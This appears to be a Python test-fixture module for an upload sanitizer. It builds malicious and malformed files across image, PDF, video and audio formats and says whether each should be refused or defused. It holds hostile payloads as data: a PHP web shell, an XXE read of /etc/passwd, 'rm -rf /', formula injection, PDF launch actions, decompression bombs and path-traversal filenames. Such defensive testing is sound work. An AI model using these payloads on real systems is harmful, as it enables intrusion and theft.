"""Two hundred files that somebody could bring in for a material, each with what it tries.

`REFUSED`: none of them is kept. `DEFUSED`: kept in a form in which what was hidden is gone. Most are
honest files with one thing changed, so that each is refused for what it tries and not because it is crude.
"""

import io
import struct
import zipfile
import zlib
from typing import Any

import media
import pikepdf
from media import (
    SCRIPT,
    box,
    element,
    m4a,
    mp3,
    mp4,
    number,
    ogg,
    ogg_page,
    pdf,
    picture,
    riff,
    track,
    wav,
    webm,
)
from pikepdf import Array, Dictionary, Name, String
from PIL import Image

SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
HTML = b"<!doctype html><html><body>" + SCRIPT + b"</body></html>"
#: What must stand in no kept file.
SECRETS = (SCRIPT, b"Secret", b"<?php", b"+14.6349", b"PK\x03\x04", b"<svg")


def archive(name: str = "../../../evil.html") -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as packed:
        packed.writestr(name, HTML)
    return out.getvalue()


def chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png(width: int, height: int, before: bytes = b"", rows: bytes = bytes(1000)) -> bytes:
    """A PNG of any size that it claims."""
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + before + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b"")


def webp(width: int, height: int) -> bytes:
    size = (width - 1).to_bytes(3, "little") + (height - 1).to_bytes(3, "little")
    return riff()[:4] + struct.pack("<I", 22) + b"WEBPVP8X" + struct.pack("<I", 10) + bytes(4) + size


def moving(kind: str) -> bytes:
    out = io.BytesIO()
    first, second = Image.new("RGB", (8, 8)), Image.new("RGB", (8, 8), (255, 0, 0))
    first.save(out, kind, save_all=True, append_images=[second], duration=100)
    return out.getvalue()


def action(kind: str, **more: Any) -> Any:
    return lambda made: Dictionary(
        Type=Name.Action, S=Name(kind), **{k: v(made) if callable(v) else v for k, v in more.items()}
    )


def names(kind: str, entry: Any) -> Any:
    return lambda made: Dictionary({f"/{kind}": Dictionary(Names=Array([String("x"), entry(made)]))})


def attached(made: pikepdf.Pdf) -> Any:
    stream = made.make_stream(HTML)
    stream.Type = Name.EmbeddedFile
    return made.make_indirect(Dictionary(Type=Name.Filespec, F=String("x.html"), EF=Dictionary(F=stream)))


def note(subtype: str, **more: Any) -> bytes:
    """A PDF with one annotation on its page."""
    made = pikepdf.open(io.BytesIO(pdf()))
    values = {key: value(made) if callable(value) else value for key, value in more.items()}
    entry = Dictionary(Type=Name.Annot, Subtype=Name(subtype), Rect=Array([0, 0, 9, 9]), **values)
    made.pages[0].Annots = Array([made.make_indirect(entry)])
    return saved(made)


def saved(made: pikepdf.Pdf, **how: Any) -> bytes:
    out = io.BytesIO()
    made.save(out, **how)
    return out.getvalue()


def packed_script() -> bytes:
    """A program in a stream of objects in which nobody sees it as text."""
    made = pikepdf.open(io.BytesIO(pdf(OpenAction=action("/JavaScript", JS=String("app.alert(1)")))))
    return saved(made, object_stream_mode=pikepdf.ObjectStreamMode.generate, compress_streams=True)


def nested(depth: int) -> bytes:
    inner: Any = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))
    for _ in range(depth):
        inner = Array([inner])
    return pdf(Deep=inner)


def locked(user: str, owner: str) -> bytes:
    return saved(pikepdf.open(io.BytesIO(pdf())), encryption=pikepdf.Encryption(user=user, owner=owner))


def raw_pdf(extra: bytes) -> bytes:
    """A PDF that only a patient reader can open, and a reader is patient."""
    return (
        b"%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R " + extra + b">>endobj\n"
        b"2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
        b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>endobj\n"
        b"trailer<</Root 1 0 R/Size 4>>\n%%EOF\n"
    )


def endless_pages() -> bytes:
    return raw_pdf(b"").replace(b"/Kids[3 0 R]", b"/Kids[2 0 R]")


def page_of(width: str) -> bytes:
    return raw_pdf(b"").replace(b"200 200", f"{width} 200".encode())


def open_cluster(*parts: bytes) -> bytes:
    return b"\x1f\x43\xb6\x75\x01" + b"\xff" * 7 + b"".join(parts)


WEBM_HEAD = element(0x1A45DFA3, number(0x4286, 1), element(0x4282, b"webm"))
GIF = b"GIF89a"

#: What it tries: the file. No one of them is what the desk takes, whatever it is called.
STRANGE: dict[str, bytes] = {
    "nothing": b"",
    "one byte": b"\x89",
    "SVG with a script": SVG,
    "SVG behind a head of XML": b'<?xml version="1.0"?>' + SVG,
    "SVG that fetches a file": b'<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]>' + SVG,
    "SVG behind blanks": b" \n\t" + SVG,
    "SVG in UTF-16": ("\ufeff" + SVG.decode()).encode("utf-16-le"),
    "SVG, packed": zlib.compress(SVG),
    "HTML": HTML,
    "HTML behind a mark of UTF-8": b"\xef\xbb\xbf" + HTML,
    "HTML in UTF-7": b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "XHTML": b'<html xmlns="http://www.w3.org/1999/xhtml">' + SCRIPT + b"</html>",
    "HTML with a PDF inside": HTML + pdf(),
    "HTML with a PNG inside": HTML + picture(),
    "a script": b"alert(1)",
    "a module": b"export default 1",
    "GIF and script": GIF + b"/*" + bytes(20) + b"*/=1;alert(1)//",
    "GIF and script, short": GIF + b"=1;alert(1)",
    "GIF": picture("GIF", mode="P"),
    "GIF that moves": moving("GIF"),
    "GIF bomb": GIF + struct.pack("<HH", 65535, 65535) + b"\x80\x00\x00" + bytes(6) + b"\x2c" + bytes(4) + b"\xff" * 4 + b"\x00\x02\x01\x00\x00;",
    "BMP and script": b"BM/*" + bytes(40) + b"*/=1;alert(1)",
    "BMP": picture("BMP"),
    "TIFF": picture("TIFF"),
    "TIFF bomb": b"II*\x00\x08\x00\x00\x00\x02\x00" + struct.pack("<HHIIHHII", 256, 4, 1, 99999999, 257, 4, 1, 99999999) + bytes(4),
    "ICO": picture("ICO"),
    "JPEG 2000": b"\x00\x00\x00\x0cjP  \r\n\x87\n" + bytes(40),
    "PSD": b"8BPS\x00\x01" + bytes(60),
    "EPS": b"%!PS-Adobe-3.0 EPSF\n(x) run",
    "PostScript": b"%!PS\n(cmd) run",
    "ZIP": archive(),
    "ZIP with a way up": archive("..\\..\\x"),
    "JAR": archive("META-INF/MANIFEST.MF"),
    "DOCX": archive("word/document.xml"),
    "gzip": b"\x1f\x8b\x08" + bytes(30),
    "7z": b"7z\xbc\xaf\x27\x1c" + bytes(30),
    "RAR": b"Rar!\x1a\x07\x00" + bytes(30),
    "a program of Windows": b"MZ" + bytes(100),
    "a program of Linux": b"\x7fELF" + bytes(100),
    "a program of a Mac": b"\xcf\xfa\xed\xfe" + bytes(100),
    "WebAssembly": b"\x00asm\x01\x00\x00\x00",
    "Flash": b"FWS\x09" + bytes(50),
    "a film of Flash": b"FLV\x01\x05" + bytes(50),
    "AVI": b"RIFF\x20\x00\x00\x00AVI LIST" + bytes(20),
    "a cursor in RIFF": b"RIFF\x20\x00\x00\x00ACON" + bytes(24),
    "FLAC": b"fLaC" + bytes(100),
    "AMR": b"#!AMR\n" + bytes(60),
    "MIDI": b"MThd\x00\x00\x00\x06" + bytes(20),
    "a playlist that leads elsewhere": b"#EXTM3U\nhttps://example.org/x.ts\n",
    "a playlist of XML": b'<?xml version="1.0"?><MPD><BaseURL>https://example.org</BaseURL></MPD>',
    "ASX": b'<asx version="3.0"><entry><ref href="javascript:alert(1)"/></entry></asx>',
    "a mail": b"Content-Type: text/html\r\n\r\n" + HTML,
    "MHTML": b"MIME-Version: 1.0\r\nContent-Type: multipart/related\r\n\r\n" + HTML,
    "a shell script": b"#!/bin/sh\nrm -rf /\n",
    "PHP": b"<?php system($_GET['c']); ?>",
    "a link of Windows": b"[InternetShortcut]\nURL=javascript:alert(1)\n",
    "a help file": b"ITSF\x03\x00\x00\x00" + bytes(40),
    "a font": b"wOF2" + bytes(60),
    "an old font": b"\x00\x01\x00\x00\x00\x0c" + bytes(60),
    "a formula": b"=cmd|'/C calc'!A0,1\n",
    "captions with a script": b"WEBVTT\n\n00:00.000 --> 00:01.000\n" + SCRIPT,
    "SQLite": b"SQLite format 3\x00" + bytes(80),
    "a torrent": b"d8:announce20:http://example.org/e",
}  # fmt: skip

PICTURES: dict[str, bytes] = {
    "PNG bomb": png(50_000, 50_000),
    "PNG bomb, one point high": png(2_000_000_000, 1),
    "PNG with a few points too many": png(5001, 5000),
    "PNG bomb in words": png(8, 8, chunk(b"zTXt", b"a\x00\x00" + zlib.compress(bytes(90_000_000)))),
    "PNG bomb in a colour profile": png(8, 8, chunk(b"iCCP", b"a\x00\x00" + zlib.compress(bytes(90_000_000)))),
    "PNG that moves": moving("PNG"),
    "PNG, cut off": picture("PNG", (400, 400))[:-60],
    "PNG with a wrong sum": picture().replace(b"IHDR", b"IHDX"),
    "PNG without points": png(0, 10),
    "PNG, head alone": b"\x89PNG\r\n\x1a\n",
    "PNG head before HTML": b"\x89PNG\r\n\x1a\n" + HTML,
    "PNG with too few rows": png(4000, 4000),
    "PNG with a length of 4 GB": b"\x89PNG\r\n\x1a\n\xff\xff\xff\xffIHDR" + bytes(40),
    "JPEG, cut off": picture("JPEG", (400, 400))[:400],
    "JPEG, head alone": b"\xff\xd8\xff\xe0",
    "JPEG head before HTML": b"\xff\xd8\xff" + HTML,
    "JPEG head before SVG": b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + SVG,
    "JPEG bomb": picture("JPEG").replace(b"\x00\x30\x00\x40", b"\xff\xff\xff\xff"),
    "WebP bomb": webp(16_383, 16_383),
    "WebP that claims 2^48 points": webp(1 << 24, 1 << 24),
    "WebP that moves": moving("WEBP"),
    "WebP, cut off": picture("WEBP", (400, 400))[:60],
    "WebP, head alone": b"RIFF\x10\x00\x00\x00WEBP",
    "WebP head before HTML": b"RIFF\x10\x00\x00\x00WEBP" + HTML,
}  # fmt: skip

_JS = String("app.alert(1)")
PAPERS: dict[str, bytes] = {
    "PDF that runs a script when it opens": pdf(OpenAction=action("/JavaScript", JS=_JS)),
    "PDF with a script in its names": pdf(Names=names("JavaScript", action("/JavaScript", JS=_JS))),
    "PDF with a script in a stream": pdf(OpenAction=action("/JavaScript", JS=lambda made: made.make_stream(b"app.alert(1)"))),
    "PDF with a script, packed": packed_script(),
    "PDF with a script deep inside": nested(20),
    "PDF with a script too deep to look at": nested(200),
    "PDF with a script and an escaped name": raw_pdf(b"/OpenAction<</S/J#61vaScript/J#53(app.alert(1))>>"),
    "PDF with a script that a patient reader finds": raw_pdf(b"/OpenAction<</S/JavaScript/JS(x)>>"),
    "PDF with a script after another action": pdf(OpenAction=action("/GoTo", D=String("x"), Next=action("/JavaScript", JS=_JS))),
    "PDF that starts a program": pdf(OpenAction=action("/Launch", F=String("cmd.exe"))),
    "PDF that starts a program of Windows": pdf(OpenAction=action("/Launch", Win=Dictionary(F=String("cmd.exe")))),
    "PDF that starts a program, untyped": pdf(OpenAction=Dictionary(S=Name.Launch)),
    "PDF that opens another": pdf(OpenAction=action("/GoToR", F=String("\\\\example.org\\x.pdf"))),
    "PDF that opens one inside it": pdf(OpenAction=action("/GoToE", D=String("x"))),
    "PDF that sends its form": pdf(OpenAction=action("/SubmitForm", F=String("https://example.org"))),
    "PDF that takes data in": pdf(OpenAction=action("/ImportData", F=String("x.fdf"))),
    "PDF that plays": pdf(OpenAction=action("/Rendition", N=String("x"))),
    "PDF that plays a sound": pdf(OpenAction=action("/Sound", F=String("x"))),
    "PDF that plays a film": pdf(OpenAction=action("/Movie", D=String("x"))),
    "PDF that hides parts": pdf(OpenAction=action("/Hide", D=String("x"))),
    "PDF that acts on leaving": pdf(AA=Dictionary(WC=Dictionary(S=Name.JavaScript, JS=_JS))),
    "PDF with a file in it": pdf(Names=names("EmbeddedFiles", attached)),
    "PDF with a file in its list of files": pdf(AF=lambda made: Array([attached(made)])),
    "PDF that is a case of files": pdf(Collection=Dictionary(View=Name.D)),
    "PDF with a form of XML": pdf(AcroForm=lambda made: Dictionary(Fields=Array([]), XFA=made.make_stream(b"<xdp/>"))),
    "PDF with a file as a note": note("/FileAttachment", FS=attached),
    "PDF with a sound as a note": note("/Sound"),
    "PDF with a film as a note": note("/Movie"),
    "PDF with a screen as a note": note("/Screen"),
    "PDF with rich media": note("/RichMedia", RichMediaContent=Dictionary()),
    "PDF with three dimensions": note("/3D"),
    "PDF with a link that runs a script": note("/Link", A=action("/JavaScript", JS=_JS)),
    "PDF with a link that starts a program": note("/Link", A=action("/Launch", F=String("x"))),
    "PDF with a field that acts": note("/Widget", AA=Dictionary(K=Dictionary(S=Name.JavaScript, JS=_JS))),
    "PDF with a password": locked("word", "word"),
    "PDF with a password for its owner": locked("", "word"),
    "PDF, cut off": pdf()[:200],
    "PDF, head alone": b"%PDF-",
    "PDF head before HTML": b"%PDF-1.7\n" + HTML + b"%%EOF",
    "PDF with pages in a circle": endless_pages(),
    "PDF without pages": saved(pikepdf.new()),
    "PDF with too many pages": pdf(501),
    "PDF with a page as long as a street": page_of("9000000"),
    "PDF behind a mark of UTF-8": b"\xef\xbb\xbf" + pdf(),
    "PDF too large": pdf() + bytes(101 * 1024 * 1024),
}  # fmt: skip

FILMS: dict[str, bytes] = {
    "MP4, head alone": mp4()[:24],
    "MP4, cut off": mp4()[:-100],
    "MP4 with HTML behind it": mp4() + HTML,
    "MP4 with a ZIP behind it": mp4() + archive(),
    "MP4 head before HTML": box(b"ftyp", b"isom" + bytes(4)) + HTML,
    "MP4 with HTML as a box": mp4(more=box(b"html", HTML)),
    "MP4 without media": mp4(media=b""),
    "MP4 without a movie": box(b"ftyp", b"isom" + bytes(4)) + box(b"mdat", bytes(90)),
    "MP4 with a box of 4 GB": mp4() + b"\xff\xff\xff\xfffree",
    "MP4 with a box of 2^63 bytes": mp4() + b"\x00\x00\x00\x01free\x7f" + b"\xff" * 7,
    "MP4 with a box smaller than its head": mp4() + b"\x00\x00\x00\x04free",
    "MP4 with a box larger than the one around it": mp4().replace(struct.pack(">I", 108) + b"mvhd", struct.pack(">I", 99999) + b"mvhd"),
    "MP4 with endless boxes": mp4() + box(b"free") * 210_000,
    "MP4 that lasts for years": mp4(4_000_000),
    "MP4 that lasts no time": mp4(0),
    "MP4 without a size": mp4(tracks=(track(width=0, height=0),)),
    "MP4 larger than any screen": mp4(tracks=(track(width=65000, height=65000),)),
    "MP4 with the place of every second": mp4(tracks=(track(), track(b"meta"))),
    "MP4 with hints for a server": mp4(tracks=(track(), track(b"hint"))),
    "MP4 whose film is elsewhere": mp4(tracks=(track(entry=bytes(4) + b"https://example.org/x\x00"),)),
    "MP4 with a short head of a movie": mp4()[:24] + box(b"moov", box(b"mvhd", b"\x00\x00")) + box(b"mdat", bytes(9)),
    "QuickTime": mp4(brand=b"qt  "),
    "HEIC": mp4(brand=b"heic"),
    "AVIF": mp4(brand=b"avif"),
    "Canon raw": mp4(brand=b"crx "),
    "WebM, head alone": WEBM_HEAD,
    "WebM, cut off": webm()[:-30],
    "WebM with HTML behind it": webm() + HTML,
    "WebM head before HTML": b"\x1a\x45\xdf\xa3" + HTML,
    "Matroska": webm(kind=b"matroska"),
    "WebM with two kinds": element(0x1A45DFA3, element(0x4282, b"webm"), element(0x4282, b"matroska")) + webm()[len(WEBM_HEAD):],
    "WebM with a file in it": webm(more=element(0x1941A469, element(0x61A7, HTML))),
    "WebM with HTML as a part": webm(more=element(0x3C68746D, HTML)),
    "WebM without media": webm(clusters=b""),
    "WebM without a picture": webm(tracks=(media.video_track(2),)),
    "WebM with a track of buttons": webm(tracks=(media.video_track(), media.video_track(18))),
    "WebM larger than any screen": webm(tracks=(media.video_track(1, 90_000, 90_000),)),
    "WebM without a size": webm(tracks=(media.video_track(1, 0, 0),)),
    "WebM that lasts for years": webm(4e9),
    "WebM that lasts no number": webm(float("nan")),
    "WebM that lasts for ever": webm(float("inf")),
    "WebM with a part of 2^56 bytes": WEBM_HEAD + b"\x18\x53\x80\x67\x01\xff\xff\xff\xff\xff\xff\xfe" + bytes(50),
    "WebM without an end, and nothing in it": WEBM_HEAD + b"\x18\x53\x80\x67\x01" + b"\xff" * 7,
    "WebM with endless parts": webm(more=element(0xEC) * 400_000 + element(0x3C68746D)),
    "WebM with a cluster without an end and HTML in it": webm(clusters=open_cluster(number(0xE7, 0), HTML)),
    "WebM with a mark that is none": WEBM_HEAD + b"\x18\x53\x80\x67\x85" + b"\x00" * 5,
}  # fmt: skip

SOUNDS: dict[str, bytes] = {
    "MP3 tag before HTML": b"ID3" + HTML,
    "MP3 tag and nothing": b"ID3\x03\x00\x00\x00\x00\x00\x00",
    "MP3 tag without an end": b"ID3\x03\x00\x00\x7f\x7f\x7f\x7f" + HTML,
    "MP3 tag with a length that is none": b"ID3\x03\x00\x00\xff\xff\xff\xff" + mp3(),
    "MP3, head alone": b"\xff\xfb\x90",
    "MP3 head before zeros": b"\xff\xfb" + bytes(100_000),
    "MP3 head before HTML": b"\xff\xfb\x90\x00" + HTML * 30,
    "MP3 of seven frames": mp3(7),
    "MP3 with a megabyte of something behind it": mp3(more=b"x" * 1_100_000),
    "MP3 with one frame and HTML": mp3(1) + HTML,
    "WAV head before HTML": b"RIFF\x00\x00\x00\x00WAVE" + HTML,
    "WAV with HTML behind it": wav(more=HTML),
    "WAV without sound": wav(0),
    "WAV with a chunk of 4 GB": riff(wav()[12:36], b"data\xff\xff\xff\xff" + bytes(20)),
    "WAV of another kind of sound": riff(b"fmt \x10\x00\x00\x00" + struct.pack("<HHIIHH", 85, 1, 8000, 8000, 1, 8), b"data\x04\x00\x00\x00abcd"),
    "WAV without a rate": riff(b"fmt \x10\x00\x00\x00" + struct.pack("<HHIIHH", 1, 1, 8000, 0, 1, 8), b"data\x04\x00\x00\x00abcd"),
    "WAV that lasts for years": riff(b"fmt \x10\x00\x00\x00" + struct.pack("<HHIIHH", 1, 1, 1, 1, 1, 8), b"data" + struct.pack("<I", 50_000) + bytes(50_000)),
    "Ogg head before HTML": b"OggS" + HTML,
    "Ogg with HTML behind it": ogg() + HTML,
    "Ogg with two streams": ogg() + ogg(serial=2),
    "Ogg with a film": ogg(head=b"\x80theora" + bytes(40)),
    "Ogg with HTML as its stream": ogg(head=HTML[:200]),
    "Ogg that lasts for years": ogg(400_000_000),
    "Ogg of one page": ogg_page(2, 0, 0, b"OpusHead" + bytes(11)),
    "Ogg, cut off": ogg()[:-2],
    "M4A, cut off": m4a()[:-5],
}  # fmt: skip

REFUSED = {**STRANGE, **PICTURES, **PAPERS, **FILMS, **SOUNDS}


def _comment(words: bytes) -> bytes:
    return b"COMM" + struct.pack(">I", len(words) + 5) + b"\x00\x00\x00eng\x00" + words


def authored() -> bytes:
    """A PDF that says who wrote it."""
    made = pikepdf.open(io.BytesIO(pdf()))
    made.docinfo["/Author"] = String("Secret person")
    with made.open_metadata() as said:
        said["dc:creator"] = ["Secret person"]
    return saved(made, compress_streams=False)


def with_photograph() -> bytes:
    """A PDF with a photograph that says where it was taken."""
    made = pikepdf.open(io.BytesIO(pdf()))
    stream = made.make_stream(media.with_place())
    stream.stream_dict = Dictionary(
        Type=Name.XObject, Subtype=Name.Image, Width=64, Height=48, ColorSpace=Name.DeviceRGB,
        BitsPerComponent=8, Filter=Name.DCTDecode,
    )  # fmt: skip
    made.pages[0].Resources = Dictionary(XObject=Dictionary(Q=stream))
    made.pages[0].Contents = made.make_stream(b"q 200 0 0 200 50 100 cm /Q Do Q")
    return saved(made, compress_streams=False)


DEFUSED: dict[str, bytes] = {
    "PDF with the place of a photograph": with_photograph(),
    "JPEG with its place": media.with_place(),
    "PNG with its place": media.with_place("PNG"),
    "WebP with its place": media.with_place("WEBP"),
    "JPEG with HTML behind it": picture("JPEG") + HTML,
    "JPEG with a ZIP behind it": picture("JPEG") + archive(),
    "JPEG with a second JPEG behind it": picture("JPEG") + media.with_place(),
    "JPEG with PHP in a comment": picture("JPEG", comment=b"<?php system($_GET['c']); ?>"),
    "JPEG with HTML as its colours": picture("JPEG", icc_profile=HTML * 9),
    "PNG with HTML behind it": picture() + HTML,
    "PNG with a ZIP behind it": picture() + archive(),
    "PNG with a PDF behind it": picture() + pdf(),
    "PNG with HTML as its colours": picture(icc_profile=HTML * 9),
    "WebP with HTML in it": picture("WEBP", xmp=HTML),
    "WebP with SVG behind it": picture("WEBP") + SVG,
    "PDF with HTML behind it": pdf() + HTML,
    "PDF with a ZIP behind it": pdf() + archive(),
    "PDF that says who wrote it": authored(),
    "MP3 with HTML in its tag": mp3(tag=_comment(HTML)),
    "MP3 with SVG as its cover": mp3(tag=_comment(SVG)),
    "MP3 with HTML behind it": mp3(more=HTML),
    "MP3 with an old tag": mp3(more=b"TAG" + b"Secret".ljust(125)),
    "WAV with HTML in it": riff(wav()[12:], b"LIST" + struct.pack("<I", len(HTML) + len(HTML) % 2) + HTML + b" " * (len(HTML) % 2)),
    "MP4 with its place": mp4(in_moov=box(b"udta", box(b"\xa9xyz", media.PLACE))),
    "MP4 with its device": mp4(in_moov=box(b"meta", media.PLACE)),
    "MP4 with HTML in a box of its own": mp4(more=box(b"uuid", bytes(16) + HTML)),
    "MP4 with HTML in a track": mp4(tracks=(track(more=box(b"udta", HTML)),)),
    "WebM with HTML in its tags": webm(more=element(0x1254C367, HTML)),
    "WebM with a small tag": webm(more=b"\x12\x54\xc3\x67\x86Secret"),
}  # fmt: skip

#: What a file may call itself; none of it is ever a path, and none decides what it is.
NAMES = (
    "../../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd", "C:\\boot.ini", "....//....//x", ".", "..",
    "a" * 5000, "x\x00.png", "\u202egnp.exe", "<script>alert(1)</script>.png", "con.png", "%2e%2e%2fx",
    "\u2066x\u2069.png", "x" + "\u0301" * 50, "evil.svg", "evil.html", ".htaccess", ".slots",
)  # fmt: skip
